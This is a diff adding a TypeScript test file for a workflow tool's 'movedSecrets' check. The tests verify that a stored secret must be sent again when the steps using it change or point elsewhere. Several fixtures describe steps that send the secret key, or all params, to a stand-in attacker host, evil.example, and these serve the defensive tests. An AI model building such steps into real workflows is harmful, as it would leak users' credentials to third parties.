@@ -1,0 +1,80 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { movedSecrets } from "../../src/domain/workflow/moved-secrets.ts";
+import { HIDDEN, SEALED_MARK } from "../../src/domain/text/sealed-text.ts";
+
+const SEALED = `${SEALED_MARK}AAAA`;
+const SCHEMA = {
+  type: "object",
+  properties: { key: { type: "string", writeOnly: true }, url: { type: "string" }, query: { type: "string" } },
+};
+const step = (name: string, params: object) => ({ name, task_type: "webhook", params });
+const call = (params: object = {}) =>
+  step("call", { url: "${{ params.url }}", headers: { authorization: "${{ params.key }}" }, ...params });
+const workflow = (...steps: object[]) => ({ name: "w", params: SCHEMA, steps });
+const stored = { key: SEALED, url: "https://a.example/hook", query: "shoes" };
+const before = { definition: workflow(call(), step("other", { url: "https://c.example/" })), params: stored };
+
+const movedBy = (definition: object, params: object = stored) =>
+  movedSecrets(before, { definition, params: params as never }).map(({ param }) => param);
+
+describe("a stored secret of a workflow is kept", () => {
+  test("while the steps that use it stay the same, whatever becomes of others", () => {
+    assert.deepEqual(movedBy(before.definition), []);
+    assert.deepEqual(movedBy(workflow(call())), []);
+    assert.deepEqual(movedBy(workflow(call(), step("new", { url: "https://evil.example/" }))), []);
+    assert.deepEqual(movedBy(before.definition, { ...stored, query: "boots" }), []);
+    assert.deepEqual(movedBy(before.definition, { ...stored, url: "https://a.example/another" }), []);
+  });
+
+  test("and must be sent again when a step with it is new or another", () => {
+    const { definition } = before;
+    const steps = [
+      [call({ method: "PUT" })],
+      [call({ url: "https://evil.example/" })],
+      [call(), step("new", { url: "https://evil.example/", body: { key: "${{ params.key }}" } })],
+      [call(), step("new", { url: "https://evil.example/", body: "${{ params }}" })],
+      [call(), step("new", { url: "https://evil.example/", body: "${{ params['key'] }}" })],
+      [call(), { ...step("other", { url: "https://c.example/" }), when: '${{ params.key == "x" }}' }],
+    ];
+    for (const changed of steps) {
+      assert.deepEqual(movedBy(workflow(...changed)), ["key"], JSON.stringify(changed));
+      assert.deepEqual(movedBy(workflow(...changed), { ...stored, key: HIDDEN }), ["key"]);
+      assert.deepEqual(movedBy(workflow(...changed), { ...stored, key: "sent again" }), []);
+    }
+    assert.deepEqual(
+      movedSecrets({ definition: null, params: {} }, { definition, params: stored }).map(({ param }) => param),
+      ["key"],
+    );
+  });
+
+  test("and must be sent again when a param leads its step to another address", () => {
+    const url = "https://evil.example/";
+    assert.deepEqual(movedBy(before.definition, { ...stored, url }), ["url"]);
+    assert.deepEqual(movedBy(before.definition, { ...stored, url, key: "sent again" }), []);
+    const byHost = workflow(step("call", { url: "https://${{ params.query }}.example/", headers: { key: SEALED } }));
+    const changed = (query: string) =>
+      movedSecrets({ definition: byHost, params: stored }, { definition: byHost, params: { ...stored, query } });
+    assert.deepEqual([changed("shoes"), changed("evil").map(({ param }) => param)], [[], ["query"]]);
+    // A proxy gets its own credentials, wherever the page is.
+    const proxied = workflow(step("read", { url: "${{ params.url }}", proxy: SEALED }));
+    assert.deepEqual(
+      movedSecrets({ definition: proxied, params: stored }, { definition: proxied, params: { ...stored, url } }),
+      [],
+    );
+  });
+
+  test("and the default of a param as well", () => {
+    const withDefault = (...steps: object[]) => ({
+      ...workflow(...steps),
+      params: { type: "object", properties: { key: { type: "string", writeOnly: true, default: HIDDEN } } },
+    });
+    const old = { definition: withDefault(call()), params: {} };
+    const after = (...steps: object[]) => movedSecrets(old, { definition: withDefault(...steps), params: {} });
+    assert.deepEqual(after(call()), []);
+    assert.deepEqual(
+      after(call({ url: "https://evil.example/" })).map(({ param }) => param),
+      ["key"],
+    );
+  });
+});
